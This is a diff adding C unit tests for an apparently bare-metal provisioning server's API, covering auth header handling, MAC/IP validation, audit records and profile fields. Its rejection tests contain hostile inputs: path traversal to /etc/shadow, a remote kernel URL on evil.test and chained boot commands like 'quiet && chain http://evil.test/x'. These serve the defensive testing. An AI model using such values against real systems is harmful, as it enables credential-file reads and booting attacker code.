@@ -19,7 +19,10 @@
 #include <stdlib.h>
 #include <string.h>
 #include <strings.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/time.h>
+#include <sys/un.h>
 #include <unistd.h>
 
 #include <curl/curl.h>
@@ -397,6 +400,7 @@ setup(void **state)
 		.max_body_bytes = TEST_MAX_BODY,
 		.timeout_seconds = 30,
 		.handler = api_handle,
+		.precheck = api_precheck,
 	};
 	struct fixture *f;
 
@@ -609,6 +613,98 @@ auth_bad_token_401(void **state)
 	call_as(f, "not-a-token", "GET", "/api/v1/machines", NULL, &r);
 	assert_error(&r, 401, "unauthorized", "not valid");
 	reply_clear(&r);
+}
+
+static void
+auth_token_trailing_space(void **state)
+{
+	struct fixture *f = *state;
+	char token[256];
+	struct reply r;
+
+	/* Spaces and tabs after the token are optional whitespace, not part of it. */
+	snprintf(token, sizeof(token), "%s \t ", f->admin);
+	call_as(f, token, "GET", "/api/v1/machines", NULL, &r);
+	assert_status(&r, 200);
+	reply_clear(&r);
+
+	snprintf(token, sizeof(token), "%s x", f->admin);
+	call_as(f, token, "GET", "/api/v1/machines", NULL, &r);
+	assert_error(&r, 401, "unauthorized", "not valid");
+	reply_clear(&r);
+}
+
+static void
+auth_two_headers_400(void **state)
+{
+	struct fixture *f = *state;
+	struct curl_slist *headers = NULL;
+	char url[1024], line[512];
+	struct reply r;
+
+	memset(&r, 0, sizeof(r));
+	buf_init(&r.body, TEST_REPLY_MAX);
+	curl_easy_reset(f->curl_https);
+	curl_easy_setopt(f->curl_https, CURLOPT_CAINFO, ca_path);
+	snprintf(url, sizeof(url), "%s/api/v1/machines", f->base_url);
+	curl_easy_setopt(f->curl_https, CURLOPT_URL, url);
+
+	/* The second credential is valid too; which one counts would be a guess. */
+	snprintf(line, sizeof(line), "Authorization: Bearer %s", f->admin);
+	headers = curl_slist_append(headers, line);
+	headers = curl_slist_append(headers, "Authorization: Bearer " TEST_VIEWER_SECRET);
+	curl_easy_setopt(f->curl_https, CURLOPT_HTTPHEADER, headers);
+	curl_easy_setopt(f->curl_https, CURLOPT_WRITEFUNCTION, body_write);
+	curl_easy_setopt(f->curl_https, CURLOPT_WRITEDATA, &r);
+	assert_int_equal(curl_easy_perform(f->curl_https), CURLE_OK);
+	curl_slist_free_all(headers);
+	curl_easy_getinfo(f->curl_https, CURLINFO_RESPONSE_CODE, &r.status);
+	r.json = json_loadb(r.body.data, r.body.len, 0, NULL);
+	assert_error(&r, 400, "bad_request", "more than one Authorization");
+	reply_clear(&r);
+}
+
+/*
+ * Send a request line and headers announcing a body over the unix socket, send no
+ * body, and return the reply's status line: the precheck replies before the body.
+ */
+static void
+precheck_status_line(struct fixture *f, const char *head, char *out, size_t size)
+{
+	struct sockaddr_un sun = { .sun_family = AF_UNIX };
+	struct timeval timeout = { .tv_sec = 3 };
+	size_t used = 0;
+	ssize_t n;
+	int fd;
+
+	fd = socket(AF_UNIX, SOCK_STREAM, 0);
+	assert_true(fd >= 0);
+	memcpy(sun.sun_path, f->socket_path, strlen(f->socket_path) + 1);
+	assert_int_equal(connect(fd, (struct sockaddr *)&sun, sizeof(sun)), 0);
+	assert_int_equal(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout)), 0);
+	assert_int_equal(send(fd, head, strlen(head), 0), (ssize_t)strlen(head));
+	out[0] = '\0';
+	while (used + 1 < size && strstr(out, "\r\n") == NULL &&
+	       (n = recv(fd, out + used, size - 1 - used, 0)) > 0) {
+		used += (size_t)n;
+		out[used] = '\0';
+	}
+	close(fd);
+	out[strcspn(out, "\r")] = '\0';
+}
+
+static void
+precheck_before_body(void **state)
+{
+	struct fixture *f = *state;
+	char line[256];
+
+	precheck_status_line(f, "POST /api/v1/nothing HTTP/1.1\r\nHost: x\r\n"
+			     "Content-Length: 1000\r\n\r\n", line, sizeof(line));
+	assert_string_equal(line, "HTTP/1.1 404 Not Found");
+	precheck_status_line(f, "PUT /api/v1/machines HTTP/1.1\r\nHost: x\r\n"
+			     "Content-Length: 1000\r\n\r\n", line, sizeof(line));
+	assert_string_equal(line, "HTTP/1.1 405 Method Not Allowed");
 }
 
 static void
@@ -1117,9 +1213,6 @@ machine_duplicates_409(void **state)
 		const char *needle;
 	} cases[] = {
 		{ "mac", "{\"macs\": [\"52:54:00:00:06:01\"]}", "52:54:00:00:06:01" },
-		{ "uuid", "{\"macs\": [\"52:54:00:00:06:02\"],"
-		  " \"uuid\": \"4c4c4544-0042-3510-8052-b4c04f4e3632\"}",
-		  "4c4c4544-0042-3510-8052-b4c04f4e3632" },
 		{ "hostname", "{\"macs\": [\"52:54:00:00:06:03\"], \"hostname\": \"WEB9\"}", "web9" },
 		{ "ip", "{\"macs\": [\"52:54:00:00:06:04\"], \"ip\": \"10.0.0.9\"}", "10.0.0.9" },
 	};
@@ -1143,6 +1236,156 @@ machine_duplicates_409(void **state)
 		reply_clear(&r);
 		assert_audited(f, before, "machine.create", "machine:new", "failed");
 	}
+}
+
+static void
+machine_uuid_shared_201(void **state)
+{
+	struct fixture *f = *state;
+	struct reply r;
+
+	/* Boards that share one SMBIOS UUID are still separate machines. */
+	machine_add(f, "52:54:00:00:06:11", "\"uuid\": \"03000200-0400-0500-0006-000700080009\"");
+	call(f, "POST", "/api/v1/machines", "{\"macs\": [\"52:54:00:00:06:12\"],"
+	     " \"uuid\": \"03000200-0400-0500-0006-000700080009\"}", &r);
+	assert_status(&r, 201);
+	assert_string_equal(jstr(r.json, "uuid"), "03000200-0400-0500-0006-000700080009");
+	reply_clear(&r);
+
+	call(f, "PATCH", "/api/v1/machines/52:54:00:00:06:11",
+	     "{\"uuid\": \"03000200-0400-0500-0006-000700080009\"}", &r);
+	assert_status(&r, 200);
+	reply_clear(&r);
+}
+
+static void
+machine_ip_v4_mapped(void **state)
+{
+	struct fixture *f = *state;
+	struct reply r;
+
+	/* An IPv4-mapped IPv6 address is stored as the IPv4 address it maps. */
+	call(f, "POST", "/api/v1/machines",
+	     "{\"macs\": [\"52:54:00:00:06:21\"], \"ip\": \"::ffff:10.0.0.21\"}", &r);
+	assert_status(&r, 201);
+	assert_string_equal(jstr(r.json, "ip"), "10.0.0.21");
+	reply_clear(&r);
+
+	call(f, "POST", "/api/v1/machines",
+	     "{\"macs\": [\"52:54:00:00:06:22\"], \"ip\": \"10.0.0.21\"}", &r);
+	assert_error(&r, 409, "conflict", "IP 10.0.0.21");
+	reply_clear(&r);
+
+	/* The other spellings of the same address collide with it too. */
+	call(f, "POST", "/api/v1/machines",
+	     "{\"macs\": [\"52:54:00:00:06:22\"], \"ip\": \"::FFFF:0a00:0015\"}", &r);
+	assert_error(&r, 409, "conflict", "IP 10.0.0.21");
+	reply_clear(&r);
+	call(f, "POST", "/api/v1/machines",
+	     "{\"macs\": [\"52:54:00:00:06:22\"], \"ip\": \"0:0:0:0:0:ffff:10.0.0.21\"}", &r);
+	assert_error(&r, 409, "conflict", "IP 10.0.0.21");
+	reply_clear(&r);
+
+	/* Other IPv6 addresses that end in an IPv4 address stay IPv6. */
+	call(f, "PATCH", "/api/v1/machines/52:54:00:00:06:21", "{\"ip\": \"64:ff9b::10.0.0.21\"}",
+	     &r);
+	assert_status(&r, 200);
+	assert_string_equal(jstr(r.json, "ip"), "64:ff9b::a00:15");
+	reply_clear(&r);
+}
+
+static void
+machine_deploying_macs_409(void **state)
+{
+	struct fixture *f = *state;
+	char needle[64];
+	int64_t before;
+	struct reply r;
+	long long id;
+
+	profile_add(f, "debian-12");
+	id = machine_add(f, "52:54:00:00:06:31", "\"profile\": \"debian-12\"");
+	call(f, "POST", "/api/v1/machines/52:54:00:00:06:31/deploy", "{}", &r);
+	assert_status(&r, 202);
+	reply_clear(&r);
+
+	/* The booting server is found by its MACs, so they stay while it deploys. */
+	snprintf(needle, sizeof(needle), "machine %lld is deploying", id);
+	before = audit_count(f);
+	call(f, "PATCH", "/api/v1/machines/52:54:00:00:06:31",
+	     "{\"macs\": [\"52:54:00:00:06:32\"]}", &r);
+	assert_error(&r, 409, "conflict", needle);
+	reply_clear(&r);
+	assert_int_equal(audit_count(f), before + 1);
+	call(f, "PATCH", "/api/v1/machines/52:54:00:00:06:31",
+	     "{\"macs\": [\"52:54:00:00:06:31\", \"52:54:00:00:06:33\"]}", &r);
+	assert_error(&r, 409, "conflict", needle);
+	reply_clear(&r);
+
+	/* The same list, in any spelling, and other fields may still change. */
+	call(f, "PATCH", "/api/v1/machines/52:54:00:00:06:31",
+	     "{\"macs\": [\"52-54-00-00-06-31\"], \"hostname\": \"web31\"}", &r);
+	assert_status(&r, 200);
+	assert_string_equal(jstr(r.json, "hostname"), "web31");
+	reply_clear(&r);
+
+	call(f, "GET", "/api/v1/machines/52:54:00:00:06:31", NULL, &r);
+	assert_status(&r, 200);
+	assert_int_equal(json_array_size(json_object_get(r.json, "macs")), 1);
+	reply_clear(&r);
+}
+
+static void
+machine_delete_detail(void **state)
+{
+	struct fixture *f = *state;
+	char target[64], expected[512];
+	json_t *last = NULL;
+	int64_t before;
+	struct reply r;
+	long long id;
+
+	id = machine_add(f, "52:54:00:00:06:41", "\"hostname\": \"web41\", \"ip\": \"10.0.0.41\","
+			 " \"uuid\": \"4c4c4544-0042-3510-8052-b4c04f4e3641\"");
+	call(f, "PATCH", "/api/v1/machines/52:54:00:00:06:41",
+	     "{\"macs\": [\"52:54:00:00:06:41\", \"52:54:00:00:06:42\"]}", &r);
+	assert_status(&r, 200);
+	reply_clear(&r);
+	snprintf(target, sizeof(target), "machine:%lld", id);
+
+	/* The entry of a delete keeps what identified the machine, as the row is gone. */
+	before = audit_count(f);
+	call(f, "DELETE", "/api/v1/machines/52:54:00:00:06:41", NULL, &r);
+	assert_status(&r, 204);
+	reply_clear(&r);
+	assert_audited(f, before, "machine.delete", target, "ok");
+	assert_int_equal(store_audit_list(f->st, before, 1, audit_copy_last, &last), 0);
+	snprintf(expected, sizeof(expected),
+		 "{\"id\":%lld,\"macs\":[\"52:54:00:00:06:41\",\"52:54:00:00:06:42\"],"
+		 "\"hostname\":\"web41\",\"ip\":\"10.0.0.41\","
+		 "\"uuid\":\"4c4c4544-0042-3510-8052-b4c04f4e3641\"}", id);
+	assert_string_equal(jstr(last, "detail"), expected);
+	json_decref(last);
+	last = NULL;
+
+	/* Empty values are null, and a refused delete is described the same way. */
+	profile_add(f, "debian-12");
+	id = machine_add(f, "52:54:00:00:06:43", "\"profile\": \"debian-12\"");
+	call(f, "POST", "/api/v1/machines/52:54:00:00:06:43/deploy", "{}", &r);
+	assert_status(&r, 202);
+	reply_clear(&r);
+	snprintf(target, sizeof(target), "machine:%lld", id);
+	before = audit_count(f);
+	call(f, "DELETE", "/api/v1/machines/52:54:00:00:06:43", NULL, &r);
+	assert_error(&r, 409, "conflict", "deploying");
+	reply_clear(&r);
+	assert_audited(f, before, "machine.delete", target, "failed");
+	assert_int_equal(store_audit_list(f->st, before, 1, audit_copy_last, &last), 0);
+	snprintf(expected, sizeof(expected),
+		 "{\"id\":%lld,\"macs\":[\"52:54:00:00:06:43\"],\"hostname\":null,"
+		 "\"ip\":null,\"uuid\":null}", id);
+	assert_string_equal(jstr(last, "detail"), expected);
+	json_decref(last);
 }
 
 /* One invalid request per row: the status, the code and a value the detail must name. */
@@ -1173,6 +1416,18 @@ static const struct invalid_case invalid_cases[] = {
 	  400, "invalid_field", "array" },
 	{ "macs missing", "POST", "/api/v1/machines", "{\"serial\": \"x\"}",
 	  400, "missing_field", "macs" },
+	{ "mac multicast", "POST", "/api/v1/machines", "{\"macs\": [\"01:00:5e:00:00:01\"]}",
+	  400, "invalid_field", "01:00:5e:00:00:01" },
+	{ "mac broadcast", "POST", "/api/v1/machines", "{\"macs\": [\"ff:ff:ff:ff:ff:ff\"]}",
+	  400, "invalid_field", "ff:ff:ff:ff:ff:ff" },
+	{ "mac zero", "POST", "/api/v1/machines", "{\"macs\": [\"00-00-00-00-00-00\"]}",
+	  400, "invalid_field", "00-00-00-00-00-00" },
+	{ "mac ref multicast", "GET", "/api/v1/machines/33:33:00:00:00:01", NULL,
+	  400, "invalid_field", "33:33:00:00:00:01" },
+	{ "mac ref bare multicast", "GET", "/api/v1/machines/111111111111", NULL,
+	  400, "invalid_field", "\"111111111111\" is not a unicast MAC address" },
+	{ "mac filter broadcast", "GET", "/api/v1/machines?mac=ff:ff:ff:ff:ff:ff", NULL,
+	  400, "invalid_field", "ff:ff:ff:ff:ff:ff" },
 	{ "bad uuid", "POST", "/api/v1/machines",
 	  "{\"macs\": [\"52:54:00:00:00:01\"], \"uuid\": \"not-a-uuid\"}",
 	  400, "invalid_field", "not-a-uuid" },
@@ -1231,6 +1486,54 @@ static const struct invalid_case invalid_cases[] = {
 	  400, "missing_field", "\"name\"" },
 	{ "profile image space", "POST", "/api/v1/profiles", "{\"name\": \"p\", \"image\": \"a b\"}",
 	  400, "invalid_field", "\"image\"" },
+	{ "profile kernel traversal", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"kernel\": \"../../etc/shadow\"}",
+	  400, "invalid_field", "\"kernel\" value \"../../etc/shadow\" is not an artifact reference" },
+	{ "profile kernel absolute", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"kernel\": \"/etc/shadow\"}", 400, "invalid_field", "\"/etc/shadow\"" },
+	{ "profile kernel url", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"kernel\": \"http://evil.test/k\"}",
+	  400, "invalid_field", "\"http://evil.test/k\"" },
+	{ "profile initrd encoded", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"initrd\": \"deploy/%2e%2e\"}",
+	  400, "invalid_field", "\"initrd\" value \"deploy/%2e%2e\"" },
+	{ "profile image hidden", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"image\": \"images/.disk\"}", 400, "invalid_field", "\"images/.disk\"" },
+	{ "profile kernel empty", "POST", "/api/v1/profiles", "{\"name\": \"p\", \"kernel\": \"\"}",
+	  400, "invalid_field", "\"kernel\" value \"\"" },
+	{ "profile kernel null", "POST", "/api/v1/profiles", "{\"name\": \"p\", \"kernel\": null}",
+	  400, "invalid_field", "\"kernel\" cannot be null" },
+	{ "profile no kernel", "POST", "/api/v1/profiles", "{\"name\": \"p\", \"initrd\": \"a/i\"}",
+	  400, "missing_field", "\"kernel\" is required" },
+	{ "profile no initrd", "POST", "/api/v1/profiles", "{\"name\": \"p\", \"kernel\": \"a/k\"}",
+	  400, "missing_field", "\"initrd\" is required" },
+	{ "profile cmdline chain", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"quiet && chain http://evil.test/x\"}",
+	  400, "invalid_field", "character 0x26 ('&') at byte 6" },
+	{ "profile cmdline or", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"quiet || chain http://evil.test/x ||\"}",
+	  400, "invalid_field", "character 0x7c ('|') at byte 6" },
+	{ "profile cmdline expansion", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"ip=${net0/ip}\"}",
+	  400, "invalid_field", "character 0x24 ('$') at byte 3" },
+	{ "profile cmdline semicolon", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"quiet ; reboot\"}",
+	  400, "invalid_field", "\";\" as a word of its own at byte 6" },
+	{ "profile cmdline comment", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"quiet #x\"}",
+	  400, "invalid_field", "character 0x23 ('#') at byte 6" },
+	{ "profile cmdline quote", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"a=\\\"b c\\\"\"}",
+	  400, "invalid_field", "character 0x22 ('\"') at byte 2" },
+	{ "profile cmdline backslash", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"a\\\\b\"}",
+	  400, "invalid_field", "character 0x5c ('\\') at byte 1" },
+	{ "profile cmdline non-ASCII", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"caf\\u00e9\"}",
+	  400, "invalid_field", "character 0xc3 at byte 3" },
+	{ "profile cmdline tab", "POST", "/api/v1/profiles",
+	  "{\"name\": \"p\", \"cmdline\": \"a\\tb\"}",
+	  400, "invalid_field", "control character at byte 1" },
 	{ "profile templates", "POST", "/api/v1/profiles",
 	  "{\"name\": \"p\", \"templates\": {\"user-data\": 1}}",
 	  400, "invalid_field", "\"user-data\"" },
@@ -1373,7 +1676,8 @@ profile_crud(void **state)
 	reply_clear(&r);
 	assert_audited(f, before, "profile.create", "profile:debian-12", "ok");
 
-	call(f, "POST", "/api/v1/profiles", "{\"name\": \"debian-12\"}", &r);
+	call(f, "POST", "/api/v1/profiles",
+	     "{\"name\": \"debian-12\", \"kernel\": \"k\", \"initrd\": \"i\"}", &r);
 	assert_error(&r, 409, "conflict", "debian-12");
 	reply_clear(&r);
 
@@ -1412,6 +1716,114 @@ profile_crud(void **state)
 
 	call(f, "GET", "/api/v1/profiles/ubuntu-24", NULL, &r);
 	assert_error(&r, 404, "not_found", "ubuntu-24");
+	reply_clear(&r);
+}
+
+static void
+profile_references(void **state)
+{
+	static const char *const bad[] = {
+		"../../etc/shadow", "/etc/shadow", "http://evil.test/k", "deploy/%2e%2e",
+		"deploy//k", "deploy/", "a b",
+	};
+	struct fixture *f = *state;
+	char body[256];
+	int64_t before;
+	struct reply r;
+
+	profile_add(f, "debian-12");
+
+	/* A PATCH may not clear what every deployment boots, and names the field. */
+	before = audit_count(f);
+	call(f, "PATCH", "/api/v1/profiles/debian-12", "{\"kernel\": null}", &r);
+	assert_error(&r, 400, "invalid_field", "\"kernel\" cannot be null");
+	reply_clear(&r);
+	call(f, "PATCH", "/api/v1/profiles/debian-12", "{\"initrd\": null}", &r);
+	assert_error(&r, 400, "invalid_field", "\"initrd\" cannot be null");
+	reply_clear(&r);
+
+	/* References the boot listener would not serve are rejected with the value named. */
+	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		static const char *const fields[] = { "image", "kernel", "initrd" };
+
+		for (size_t j = 0; j < 3; j++) {
+			snprintf(body, sizeof(body), "{\"%s\": \"%s\"}", fields[j], bad[i]);
+			call(f, "PATCH", "/api/v1/profiles/debian-12", body, &r);
+			if (r.status != 400)
+				print_message("%s\n", body);
+			assert_error(&r, 400, "invalid_field", bad[i]);
+			assert_non_null(strstr(jstr(r.json, "detail"), fields[j]));
+			reply_clear(&r);
+		}
+	}
+	assert_int_equal(audit_count(f), before);
+
+	/* The image may be cleared, and nested paths are references like any other. */
+	call(f, "PATCH", "/api/v1/profiles/debian-12",
+	     "{\"image\": null, \"kernel\": \"debian-12/vmlinuz-6.1.0\","
+	     " \"initrd\": \"sha256/ab/abcdef_initrd.img\"}", &r);
+	assert_status(&r, 200);
+	assert_string_equal(jstr(r.json, "image"), "");
+	assert_string_equal(jstr(r.json, "kernel"), "debian-12/vmlinuz-6.1.0");
+	assert_string_equal(jstr(r.json, "initrd"), "sha256/ab/abcdef_initrd.img");
+	reply_clear(&r);
+}
+
+static void
+profile_cmdline_accepted(void **state)
+{
+	static const char *const good[] = {
+		"console=ttyS0,115200n8 console=tty0",
+		"root=UUID=4c4c4544-0042-3510-8052-b4c04f4e3632 ro quiet",
+		"ds=nocloud;s=http://10.0.0.1:8080/seed/ ip=dhcp",
+		"BOOTIF=01-52-54-00-12-34-56 rd.neednet=1 modprobe.blacklist=a,b",
+		"a+b@c%20~d_e.f",
+		"",
+	};
+	struct fixture *f = *state;
+	char body[256];
+	struct reply r;
+
+	profile_add(f, "debian-12");
+	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
+		snprintf(body, sizeof(body), "{\"cmdline\": \"%s\"}", good[i]);
+		call(f, "PATCH", "/api/v1/profiles/debian-12", body, &r);
+		assert_status(&r, 200);
+		assert_string_equal(jstr(r.json, "cmdline"), good[i]);
+		reply_clear(&r);
+	}
+}
+
+static void
+profile_deploying_409(void **state)
+{
+	struct fixture *f = *state;
+	char needle[96];
+	int64_t before;
+	struct reply r;
+	long long id;
+
+	profile_add(f, "debian-12");
+	machine_add(f, "52:54:00:00:07:11", "\"profile\": \"debian-12\"");
+	call(f, "PATCH", "/api/v1/profiles/debian-12", "{\"cmdline\": \"quiet\"}", &r);
+	assert_status(&r, 200);
+	reply_clear(&r);
+
+	/* While a machine deploys it, the profile it boots from stays as it is. */
+	id = machine_add(f, "52:54:00:00:07:12", "\"profile\": \"debian-12\"");
+	call(f, "POST", "/api/v1/machines/52:54:00:00:07:12/deploy", "{}", &r);
+	assert_status(&r, 202);
+	reply_clear(&r);
+
+	snprintf(needle, sizeof(needle), "used by machine %lld, which is deploying", id);
+	before = audit_count(f);
+	call(f, "PATCH", "/api/v1/profiles/debian-12", "{\"kernel\": \"other/vmlinuz\"}", &r);
+	assert_error(&r, 409, "conflict", needle);
+	reply_clear(&r);
+	assert_audited(f, before, "profile.update", "profile:debian-12", "failed");
+
+	call(f, "GET", "/api/v1/profiles/debian-12", NULL, &r);
+	assert_string_equal(jstr(r.json, "kernel"), "vmlinuz");
 	reply_clear(&r);
 }
 
@@ -1539,6 +1951,9 @@ main(void)
 		cmocka_unit_test_setup_teardown(route_method_405, setup, teardown),
 		cmocka_unit_test_setup_teardown(auth_missing_token_401, setup, teardown),
 		cmocka_unit_test_setup_teardown(auth_bad_token_401, setup, teardown),
+		cmocka_unit_test_setup_teardown(auth_token_trailing_space, setup, teardown),
+		cmocka_unit_test_setup_teardown(auth_two_headers_400, setup, teardown),
+		cmocka_unit_test_setup_teardown(precheck_before_body, setup, teardown),
 		cmocka_unit_test_setup_teardown(auth_viewer_reads_only, setup, teardown),
 		cmocka_unit_test_setup_teardown(auth_operator_changes, setup, teardown),
 		cmocka_unit_test_setup_teardown(auth_unix_socket_no_token, setup, teardown),
@@ -1554,11 +1969,18 @@ main(void)
 		cmocka_unit_test_setup_teardown(machine_assign_profile, setup, teardown),
 		cmocka_unit_test_setup_teardown(machine_deploy_lifecycle, setup, teardown),
 		cmocka_unit_test_setup_teardown(machine_duplicates_409, setup, teardown),
+		cmocka_unit_test_setup_teardown(machine_uuid_shared_201, setup, teardown),
+		cmocka_unit_test_setup_teardown(machine_ip_v4_mapped, setup, teardown),
+		cmocka_unit_test_setup_teardown(machine_deploying_macs_409, setup, teardown),
+		cmocka_unit_test_setup_teardown(machine_delete_detail, setup, teardown),
 		cmocka_unit_test_setup_teardown(validation_errors, setup, teardown),
 		cmocka_unit_test_setup_teardown(body_too_large_413, setup, teardown),
 		cmocka_unit_test_setup_teardown(content_type_415, setup, teardown),
 		cmocka_unit_test_setup_teardown(store_busy_503, setup, teardown),
 		cmocka_unit_test_setup_teardown(profile_crud, setup, teardown),
+		cmocka_unit_test_setup_teardown(profile_references, setup, teardown),
+		cmocka_unit_test_setup_teardown(profile_cmdline_accepted, setup, teardown),
+		cmocka_unit_test_setup_teardown(profile_deploying_409, setup, teardown),
 		cmocka_unit_test_setup_teardown(profile_delete_in_use_409, setup, teardown),
 		cmocka_unit_test_setup_teardown(artifact_list_get_delete, setup, teardown),
 		cmocka_unit_test_setup_teardown(audit_list_and_verify, setup, teardown),
